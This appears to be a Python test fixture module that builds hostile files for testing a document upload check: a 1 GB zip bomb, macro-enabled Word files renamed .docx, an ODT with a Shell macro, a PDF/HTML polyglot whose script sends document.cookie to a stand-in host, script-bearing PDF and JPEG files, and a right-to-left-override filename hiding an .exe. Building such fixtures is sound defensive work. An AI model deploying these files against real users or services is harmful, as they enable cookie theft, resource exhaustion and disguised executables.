"""Files made to harm, built in the test: a zip bomb, Office files with macros, polyglots.

Each is a real file of its kind: the bomb really unpacks to 1 GB (zipfile can read it
through, CRC and all), the macro document has a real vbaProject.bin part, the polyglot
PDF opens as a PDF and renders as a web page.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image
from PIL.PngImagePlugin import PngInfo

MB = 1024 * 1024

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
# A PDF that is also a web page: a browser that sniffs it runs the script.
PDF_HTML_POLYGLOT = (
    b"%PDF-1.4\n%<html><body><script>document.location='https://example.invalid/'+document."
    b"cookie</script></body></html>\n" + PDF[9:]
)
PDF_WITH_JAVASCRIPT = PDF.replace(
    b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
)


def _deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """Raw deflate data of that many MB of zeros, built from one compressed megabyte."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc, zero = 0, bytes(MB)
    for _ in range(megabytes):
        crc = zlib.crc32(zero, crc)
    return block * megabytes + b"\x03\x00", crc  # "\x03\x00": an empty final block


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data)


def _zip_by_hand(entries) -> bytes:
    """A zip of (name, raw deflate data, crc, unpacked size), as zipfile would write it."""
    out, central = io.BytesIO(), b""
    for name, data, crc, size in entries:
        offset, encoded = out.tell(), name.encode()
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0
            )
            + encoded
            + data
        )
        central += (
            struct.pack(
                "<4s6H3L5H2L",
                *(b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), size, len(encoded)),
                *(0, 0, 0, 0, 0, offset),
            )
            + encoded
        )
    start = out.tell()
    out.write(central)
    out.write(
        struct.pack(
            "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0
        )
    )
    return out.getvalue()


DOCX_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCM_CONTENT_TYPES = DOCX_CONTENT_TYPES.replace(
    "officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
)
DOCUMENT_XML = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Verslag</w:t></w:r></w:p></w:body>'
    "</w:document>"
)


def docx(extra: dict[str, bytes | str] | None = None, content_types=DOCX_CONTENT_TYPES) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", DOCUMENT_XML)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_with_macros() -> bytes:
    """What Word saves as .docm, renamed .docx: a macro-enabled type and the VBA project."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE compound file header
    return docx({"word/vbaProject.bin": vba}, content_types=DOCM_CONTENT_TYPES)


def odt(extra: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def odt_with_basic() -> bytes:
    return odt({"Basic/Standard/Module1.xml": '<script:module>Sub Main\nShell("x")</script'})


def docx_bomb() -> bytes:
    """About 1 MB that unpacks to 1 GB: word/document.xml is a gigabyte of zeros."""
    data, crc = _deflated_zeros(1024)
    return _zip_by_hand(
        [
            ("[Content_Types].xml", *_deflated(DOCX_CONTENT_TYPES.encode())),
            ("word/document.xml", data, crc, 1024 * MB),
        ]
    )


def docx_with_many_entries(count: int) -> bytes:
    return docx({f"word/media/leeg{i}.xml": "" for i in range(count)})


def png(text: str | None = None) -> bytes:
    out = io.BytesIO()
    info = PngInfo()
    if text is not None:
        info.add_text("Comment", text)
    Image.new("RGB", (8, 8), "orange").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_with_html() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(
        out, "JPEG", comment=b"<html><script>alert(document.domain)</script></html>"
    )
    return out.getvalue()


# "factuur" + RIGHT-TO-LEFT OVERRIDE + "fdp.exe": shown as "factuurexe.pdf".
RTL_NAME = "factuur\u202efdp.exe"
